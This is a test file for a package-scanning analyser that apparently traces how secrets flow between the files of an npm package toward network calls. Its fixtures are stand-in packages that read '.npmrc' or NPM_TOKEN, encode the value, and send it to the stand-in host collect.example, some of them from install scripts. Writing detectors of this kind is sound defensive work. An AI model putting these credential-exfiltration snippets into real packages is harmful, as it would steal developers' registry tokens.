import { describe, expect, it } from 'vitest'
import { DEFAULT_LIMITS } from '../../../base/limits.ts'
import { readJavaScriptModule } from '../../../formats/javascript/javascript.ts'
import { dialectOf } from '../../../formats/javascript/parse.ts'
import { json } from '../../../formats/json.ts'
import type { Behaviour } from '../behaviour.ts'
import { type LinkedPackage, linkPackage } from '../flow/link-package.ts'
import { nodeResolver } from '../flow/node-resolver.ts'
import { isWorthLinking } from '../flow/worth-linking.ts'
import type { FileRole } from '../package-file.ts'
import { mayCarry } from './prefilter.ts'
import { summarizeJavaScript } from './summary.ts'

type Files = Readonly<Record<string, string>>

/** Files of a package; `index.js` is imported, `install.js` runs with the installation. */
function link(files: Files, manifest = '{"name":"own","main":"index.js"}'): LinkedPackage {
  const modules = Object.entries(files).map(([path, source]) => {
    const role: FileRole = path.startsWith('install.') ? 'install' : path.startsWith('index.') ? 'import' : 'library'
    return summarizeJavaScript(readJavaScriptModule(source, DEFAULT_LIMITS, dialectOf(path)), { path, role }, 'own')
  })
  const tree = json.parse(new TextEncoder().encode(manifest), DEFAULT_LIMITS)
  return linkPackage(modules, nodeResolver([...Object.keys(files), 'package.json'], new Map([['package.json', tree]])))
}

/** `source subject <- place, through => sink place`, one for each way into the network. */
function ways({ behaviours }: LinkedPackage, kind = 'network'): readonly string[] {
  const found = behaviours
    .filter((one) => one.kind === kind)
    .flatMap(({ inputs, place }) =>
      inputs.map(
        ({ source, subject, place: from, through }) =>
          `${source}:${subject} ${from.path}${through.length > 0 ? ` ${through.join('>')}` : ''} -> ${place.path}`,
      ),
    )
  return [...new Set(found)]
}

const SOURCE = 'const os = require("os"), fs = require("fs"), path = require("path");'
const NPMRC = 'fs.readFileSync(path.join(os.homedir(), ".npmrc"), "utf8")'
const WAY = 'secret-file:.npmrc env.js -> net.js'
const NET = 'exports.send = (body) => fetch("https://collect.example/in", { method: "POST", body })'

describe('ways from file to file', () => {
  const cases: readonly (readonly [name: string, files: Files, found: readonly string[]])[] = [
    ['results and arguments', {
      'env.js': `${SOURCE} module.exports.read = () => ${NPMRC}`,
      'net.js': NET,
      'index.js': 'const { read } = require("./env"); const net = require("./net"); net.send(read())',
    }, [WAY]],
    ['an encoder between them', {
      'env.js': `${SOURCE} module.exports.read = () => ${NPMRC}`,
      'pack.js': 'module.exports = (x) => Buffer.from(JSON.stringify(x)).toString("base64")',
      'net.js': NET,
      'index.js': 'const pack = require("./pack"); require("./net").send(pack(require("./env").read()))',
    }, ['secret-file:.npmrc env.js json>base64 -> net.js']],
    ['a class', {
      'env.js': `${SOURCE} class Reader { constructor() { this.token = ${NPMRC} } get() { return this.token } } module.exports = Reader`,
      'net.js': 'class Client { constructor(key) { this.key = key } send() { return fetch("https://collect.example", { body: this.key }) } } module.exports = { Client }',
      'index.js': 'const Reader = require("./env"); const { Client } = require("./net"); new Client(new Reader().get()).send()',
    }, [WAY]],
    ['an instance that is exported', {
      'env.js': `${SOURCE} module.exports = ${NPMRC}`,
      'net.js': 'class Client { send(x) { fetch("https://collect.example", { body: x }) } } module.exports = new Client()',
      'index.js': 'require("./net").send(require("./env"))',
    }, [WAY]],
    ['re-exports', {
      'env.mjs': `import fs from "fs"; import os from "os"; export const token = fs.readFileSync(os.homedir() + "/.npmrc")`,
      'lib/net.mjs': 'export default function (x) { fetch("https://collect.example", { body: x }) }',
      'lib/index.mjs': 'export { default as send } from "./net.mjs"; export * from "../env.mjs"',
      'index.mjs': 'import { send, token } from "./lib/index.mjs"; send(token)',
    }, ['secret-file:.npmrc env.mjs -> lib/net.mjs']],
    ['re-exports of CommonJS', {
      'env.js': `${SOURCE} exports.token = ${NPMRC}`,
      'net.js': NET,
      'lib.js': 'module.exports = { ...require("./env"), send: require("./net").send, token: require("./env").token }',
      'index.js': 'const lib = require("./lib"); lib.send(lib.token)',
    }, [WAY]],
    ['TypeScript, default exports and ES modules as a compiler writes them', {
      'env.ts': `import * as fs from "fs"; import * as os from "os"; export default function read(): string { return fs.readFileSync(os.homedir() + "/.npmrc", "utf8") }`,
      'net.js': '"use strict"; Object.defineProperty(exports, "__esModule", { value: true }); function send(x) { fetch("https://collect.example", { body: x }) } exports.default = send;',
      'index.ts': 'import read from "./env.js"; import send from "./net"; send(read() as unknown as string)',
    }, ['secret-file:.npmrc env.ts -> net.js']],
    ['an emitter', {
      'bus.js': 'const { EventEmitter } = require("events"); module.exports = new EventEmitter()',
      'env.js': `${SOURCE} const bus = require("./bus"); bus.emit("found", ${NPMRC})`,
      'net.js': 'require("./bus").on("found", (x) => fetch("https://collect.example", { body: x }))',
      'index.js': 'require("./net"); require("./env")',
    }, [WAY]],
    ['a callback', {
      'env.js': `${SOURCE} exports.read = (done) => { done(null, ${NPMRC}) }`,
      'net.js': 'require("./env").read((error, x) => { fetch("https://collect.example", { body: x }) })',
      'index.js': 'require("./net")',
    }, [WAY]],
    ['a field that is given', {
      'state.js': 'exports.token = undefined',
      'env.js': `${SOURCE} require("./state").token = ${NPMRC}`,
      'net.js': 'const state = require("./state"); fetch("https://collect.example", { body: state.token })',
    }, [WAY]],
    ['the own name and imports of package.json', {
      'env.js': `${SOURCE} exports.read = () => ${NPMRC}`,
      'net.js': NET,
      'index.js': 'require("#net").send(require("own/env").read())',
    }, [WAY]],
    ['a promise', {
      'env.js': `const fs = require("fs/promises"), os = require("os"); exports.read = async () => (await fs.readFile(os.homedir() + "/.npmrc")).toString()`,
      'net.js': NET,
      'index.js': 'require("./env").read().then((x) => require("./net").send(x))',
    }, [WAY]],
    ['a factory', {
      'env.js': `${SOURCE} exports.read = () => ${NPMRC}`,
      'net.js': 'module.exports = (host) => ({ send(x) { fetch(host, { body: x }) } })',
      'index.js': 'const client = require("./net")("https://collect.example"); client.send(require("./env").read())',
    }, [WAY]],
  ] // prettier-ignore
  it.each(cases)('%s', (_, files, found) => {
    const manifest = '{"name":"own","main":"index.js","imports":{"#net":"./net.js"},"exports":{"./env":"./env.js"}}'
    expect(ways(link(files, manifest)).filter((way) => way.startsWith('secret-file'))).toEqual(found)
  })

  const apart: readonly (readonly [name: string, files: Files])[] = [
    ['a log and a client that never meet', {
      'log.js': `${SOURCE} exports.log = (...x) => { console.log(os.hostname(), process.env.NPM_TOKEN, ...x) }`,
      'http.js': NET,
      'index.js': 'const { log } = require("./log"); const { send } = require("./http"); log("hello"); send("honest")',
    }],
    ['two callers of one helper', {
      'id.js': 'exports.id = (x) => x',
      'index.js': 'const { id } = require("./id"); id(process.env.NPM_TOKEN); require("./http").send(id("honest"))',
      'http.js': NET,
    }],
    ['what a function gives that has nothing of what it is given', {
      'log.js': 'exports.log = (x) => { console.log(x); return 1 }',
      'index.js': 'require("./http").send(require("./log").log(process.env.NPM_TOKEN))',
      'http.js': NET,
    }],
    ['another export of the same file', {
      'env.js': 'exports.secret = () => process.env.NPM_TOKEN; exports.version = () => "1.0"',
      'index.js': 'require("./http").send(require("./env").version())',
      'http.js': NET,
    }],
    ['a file of another package of that name', {
      'env.js': 'exports.read = () => process.env.NPM_TOKEN',
      'index.js': 'require("./http").send(require("env").read())',
      'http.js': NET,
    }],
  ] // prettier-ignore
  it.each(apart)('none: %s', (_, files) => {
    expect(ways(link(files)).filter((way) => !way.startsWith('network:'))).toEqual([])
  })

  it('tells of an SDK what it does: its own key goes to its own host', () => {
    const linked = link({
      'config.js': 'module.exports = { key: process.env.OWN_API_KEY, host: "https://api.own.example" }',
      'client.js': 'const { key } = require("./config"); exports.ask = (q) => fetch("https://api.own.example/v1", { headers: { authorization: key }, body: q })',
      'index.js': 'exports.ask = require("./client").ask',
    }) // prettier-ignore
    expect(ways(linked)).toEqual(['environment:OWN_API_KEY config.js -> client.js'])
    expect(linked.behaviours.find(({ kind }) => kind === 'network')).toMatchObject({
      subject: 'api.own.example',
      when: 'call',
    })
  })
})

describe('what needs an input of another file', () => {
  const READ = `${SOURCE} exports.read = () => ${NPMRC}`
  const cases: readonly (readonly [name: string, source: string, found: string])[] = [
    ['a request that goes on', 'const r = require("https").request({ hostname: "collect.example" }); r.write(require("./env").read()); r.end()', 'network collect.example'],
    ['a name that is asked for', 'require("dns").resolve(require("./env").read())', 'dns ?'],
    ['an encoder', 'fetch("https://collect.example", { body: Buffer.from(require("./env").read()).toString("hex") })', 'encode .npmrc'],
    ['a download', 'require("fs").writeFileSync("x", require("./got").get())', 'download files.example'],
  ] // prettier-ignore
  it.each(cases)('%s', (_, source, found) => {
    const got = 'exports.get = async () => (await fetch("https://files.example/x")).text()'
    const { behaviours } = link({ 'env.js': READ, 'got.js': got, 'index.js': source })
    expect(behaviours.map(({ kind, subject }) => `${kind} ${subject}`)).toContain(found)
  })
})

describe('which files are linked', () => {
  const summary = (source: string, role: FileRole = 'library'): ReturnType<typeof summarizeJavaScript> =>
    summarizeJavaScript(readJavaScriptModule(source, DEFAULT_LIMITS), { path: 'a.js', role })

  it('links where a source and a sink may meet, or an install script loads files', () => {
    const source = summary('exports.read = () => process.env.NPM_TOKEN')
    expect(isWorthLinking([source, summary(NET)])).toBe(true)
    expect(isWorthLinking([source])).toBe(false)
    expect(isWorthLinking([summary('exports.add = (a, b) => a + b')])).toBe(false)
    expect(isWorthLinking([summary('require("./a")', 'install')])).toBe(true)
  })

  it.each(['module.exports = require("./a")', 'export * from "./a"', 'import "#a"', 'exports.a = 1'])(
    '%s may carry',
    (source) => {
      expect(mayCarry(source)).toBe(true)
    },
  )

  it('keeps a small part of a module', () => {
    const lines = Array.from(
      { length: 2000 },
      (_, i) => `exports.f${i} = (a) => { const b = a + ${i}; return b.trim() }`,
    )
    const module = readJavaScriptModule(`${lines.join('\n')}\n${NET}`, DEFAULT_LIMITS)
    const { flows, marks, findings } = summarizeJavaScript(module, { path: 'a.js', role: 'library' })
    expect(module.flows.length).toBeGreaterThan(flows.length)
    expect(marks.length).toBeLessThan(10)
    expect(findings.length).toBe(1)
  })
})

describe('moments', () => {
  const when = ({ behaviours }: LinkedPackage, path: string): readonly string[] =>
    behaviours.filter(({ kind, place }) => kind === 'network' && place.path === path).map((one: Behaviour) => one.when)
  const SEND =
    'exports.send = () => fetch("https://collect.example"); exports.other = () => fetch("https://other.example")'

  it('runs a function when the file that calls it runs', () => {
    expect(when(link({ 'net.js': SEND, 'index.js': 'require("./net").send()' }), 'net.js')).toEqual(['import', 'call'])
    expect(when(link({ 'net.js': SEND, 'install.js': 'require("./net").send()' }), 'net.js')).toEqual(['install', 'call'])
    expect(when(link({ 'net.js': SEND, 'index.js': 'exports.go = () => require("./net").send()' }), 'net.js')).toEqual(['call', 'call'])
  }) // prettier-ignore

  it('follows calls over several files, and callbacks', () => {
    const files = {
      'net.js': SEND,
      'b.js': 'const net = require("./net"); function go() { net.send() } exports.start = () => { go() }',
      'install.js': 'const { start } = require("./b"); start()',
    }
    expect(when(link(files), 'net.js')).toEqual(['install', 'call'])
    const later = {
      'run.js': 'exports.later = (f) => { f() }',
      'install.js': 'require("./run").later(() => { fetch("https://collect.example") })',
    }
    expect(when(link(later), 'install.js')).toEqual(['install'])
  })

  it('gives files that the entry loads its role, and not those that a call loads', () => {
    const linked = link({
      'index.js': 'require("./a"); exports.lazy = () => require("./c")',
      'a.js': 'require("./b")',
      'b.js': 'fetch("https://collect.example")',
      'c.js': 'fetch("https://collect.example")',
    })
    expect(Object.fromEntries(linked.roles)).toEqual({
      'index.js': 'import',
      'a.js': 'import',
      'b.js': 'import',
      'c.js': 'library',
    })
  })

  it('gives files that install scripts load or start their role', () => {
    const linked = link({
      'install.js': 'require("./a"); require("child_process").spawn(process.execPath, [__dirname + "/child.js"], { env: process.env })',
      'a.js': 'import("./b.mjs")',
      'b.mjs': 'fetch("https://collect.example")',
      'child.js': 'fetch("https://collect.example", { body: process.env.NPM_TOKEN })',
      'index.js': 'exports.lazy = () => require("./c")',
      'c.js': 'fetch("https://collect.example")',
    }) // prettier-ignore
    expect(Object.fromEntries(linked.roles)).toEqual({
      'install.js': 'install',
      'a.js': 'install',
      'b.mjs': 'install',
      'child.js': 'install',
      'index.js': 'import',
      'c.js': 'library',
    })
    expect(when(linked, 'b.mjs')).toEqual(['install'])
    expect(when(linked, 'c.js')).toEqual(['import'])
  })
})
